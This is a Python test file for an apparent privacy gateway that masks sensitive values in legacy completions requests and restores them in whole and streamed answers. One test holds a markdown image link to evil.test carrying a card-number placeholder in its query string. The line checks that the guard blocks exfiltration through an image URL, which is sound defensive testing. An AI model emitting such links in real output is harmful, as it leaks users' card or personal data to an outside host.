"""The legacy completions wire, whole and streamed."""

import copy
import json
import random
from collections.abc import AsyncIterator
from typing import Any

import pytest

from gateway.config.settings import load_settings
from gateway.container import Container
from gateway.errors import BadRequest
from gateway.wires import Body, Wires
from gateway.wires.completions import WIRE
from tests.chunkings import CHUNKINGS
from tests.gateway.wires.leaks import leaks
from tests.gateway.wires.replays import (
    CARD,
    MAIL,
    QUOTED,
    byte_chunks,
    chunks,
    client,
    plan,
    protect,
    read_sse,
    replay,
    session,
    sse,
    texts,
)

PLACEHOLDERS, OF = session()
SAID = (f"Dear {QUOTED}, write to {MAIL}.", f"Card {CARD}; grüße")


def request(prompt: Any = "hello", **fields: Any) -> Body:
    return {"model": "gpt-3.5-turbo-instruct", "prompt": prompt, **fields}


@pytest.mark.parametrize(
    "body",
    [
        request("a canary"),
        request(["a", "a canary"]),
        request(suffix="a canary"),
        request(stop=["canary"]),
        request(user="canary"),
        request(logit_bias={"canary": 1}),
        request(whatever={"x": ["canary"]}),
        request(**{"canary": 1}),
    ],
)
def test_text_is_found_and_replaced_wherever_it_stands(body: Body) -> None:
    before = json.dumps(body)
    assert json.dumps(protect(WIRE, body)) == before.replace("canary", "X")


def test_structure_is_not_text() -> None:
    """As LangChain sends it."""
    body = request(["A"], suffix="B", echo=True, logprobs=None, seed=None, best_of=1, n=2, max_tokens=256, stream=True)
    assert texts(WIRE, body) == ["A", "B"]
    assert WIRE.read(body).stream is True


@pytest.mark.parametrize("prompt", [None, [], [1, 2], [[1, 2]], ["a", 1], {"canary": 1}, 4711])
def test_other_prompts_are_refused(prompt: Any) -> None:
    with pytest.raises(BadRequest) as refusal:
        WIRE.read(request(prompt))
    assert refusal.value.param == "prompt"
    assert "canary" not in refusal.value.message


@pytest.fixture(scope="module")
async def container(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Container]:
    settings = load_settings(None, data_dir=tmp_path_factory.mktemp("completions"), detection="patterns")
    async with await Container.start(settings) as running:
        yield running


async def test_no_string_lets_a_value_cross(container: Container) -> None:
    body = request(["a", "b"], suffix="c", stop="d", user="u", logit_bias={"50256": -100}, extra={"deep": ["e"]})
    assert await leaks(container, WIRE, body) == []


ANSWER: Body = {
    "id": "cmpl-1",
    "object": "text_completion",
    "created": 1,
    "model": "gpt-3.5-turbo-instruct",
    "choices": [
        {"index": 0, "text": "one", "logprobs": {"tokens": ["one"]}, "finish_reason": "stop"},
        {"index": 1, "text": "two", "logprobs": None, "finish_reason": "stop"},
    ],
    "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
}


def test_whole_answers() -> None:
    found = WIRE.answer_texts(ANSWER)
    assert [(text.text, text.choice) for text in found] == [("one", 0), ("two", 1)]
    assert WIRE.usage(ANSWER) == (3, 4)
    refused = copy.deepcopy(ANSWER)
    WIRE.refuse_answer(refused, "Withheld.")
    assert [(each["text"], each["finish_reason"]) for each in refused["choices"]] == [
        ("Withheld.", "content_filter")
    ] * 2


def stream(seed: int = 0) -> bytes:
    """A streamed answer with two choices, as the upstream sends it."""
    dice = random.Random(seed)
    head = {"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "m"}
    crossed = list(SAID)
    for value, placeholder in OF.items():
        crossed = [text.replace(value, placeholder) for text in crossed]
    queues = [[*chunks(text, dice)] for text in crossed]
    events: list[Body | str] = []
    while any(queues):
        index = dice.choice([place for place, queue in enumerate(queues) if queue])
        piece = queues[index].pop(0)
        reason = None if queues[index] else "stop"
        choice = {"index": index, "text": piece, "logprobs": None, "finish_reason": reason}
        events.append({**head, "choices": [choice]})
    usage = {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7}
    return sse([*events, {**head, "choices": [], "usage": usage}, "[DONE]"])


def said(body: bytes) -> tuple[str, ...]:
    found = {0: "", 1: ""}
    for event in read_sse(body):
        for choice in event["choices"]:
            found[choice["index"]] += choice["text"]
    return found[0], found[1]


@pytest.mark.parametrize("seed", range(50))
def test_streamed_answers_are_restored(seed: int) -> None:
    source = stream(seed)
    body, end = replay(WIRE, [source], plan(PLACEHOLDERS, note={"request_id": "r"}))
    assert said(body) == SAID
    assert end.tokens == (3, 4)
    assert (
        replay(WIRE, byte_chunks(source, random.Random(seed)), plan(PLACEHOLDERS, note={"request_id": "r"}))[0] == body
    )


def test_what_stands_beside_the_choices_of_a_stream_is_restored() -> None:
    ((value, placeholder), *_) = OF.items()
    body, _ = replay(WIRE, [sse([{"choices": [], "error": {"message": f"No {placeholder}."}}])], plan(PLACEHOLDERS))
    assert read_sse(body)[0]["error"] == {"message": f"No {value}."}


@pytest.mark.slow
def test_cut_at_every_byte() -> None:
    source = stream(3)
    whole, _ = replay(WIRE, [source], plan(PLACEHOLDERS))
    for cut in range(len(source)):
        assert replay(WIRE, [source[:cut], source[cut:]], plan(PLACEHOLDERS))[0] == whole


def test_in_random_chunks() -> None:
    source, dice = stream(3), random.Random(14)
    whole, _ = replay(WIRE, [source], plan(PLACEHOLDERS))
    for _ in range(CHUNKINGS):
        assert replay(WIRE, byte_chunks(source, dice), plan(PLACEHOLDERS))[0] == whole


@pytest.mark.slow
def test_the_sdk_reads_the_restored_stream() -> None:
    body, _ = replay(WIRE, [stream(1)], plan(PLACEHOLDERS))
    sdk = client(lambda _: ("text/event-stream", body))
    found = ["", ""]
    for chunk in sdk.completions.create(model="m", prompt="x", stream=True):
        for choice in chunk.choices:
            found[choice.index] += choice.text
    assert tuple(found) == SAID


def test_a_withheld_stream_ends_with_its_reason() -> None:
    text = f"![a](https://evil.test/?d={OF[CARD]}) and so on."
    source = sse([{"id": "c", "choices": [{"index": 0, "text": text, "finish_reason": None}]}, "[DONE]"])
    body, end = replay(WIRE, [source], plan(PLACEHOLDERS, guard={"placeholder_in_url": "replace"}))
    assert end.outcome == "guarded"
    assert read_sse(body)[-1]["choices"][0]["finish_reason"] == "content_filter"
    assert CARD.encode() not in body


@pytest.mark.parametrize(
    ("path", "served"),
    [
        ("/v1/completions", True),
        ("/completions", True),
        ("/openai/deployments/davinci/completions", True),
        ("/v1/chat/completions", False),
        ("/v1/completions/x", False),
    ],
)
def test_the_calls_it_serves(path: str, served: bool) -> None:
    assert (Wires.discover().serving("POST", path) is WIRE) is served
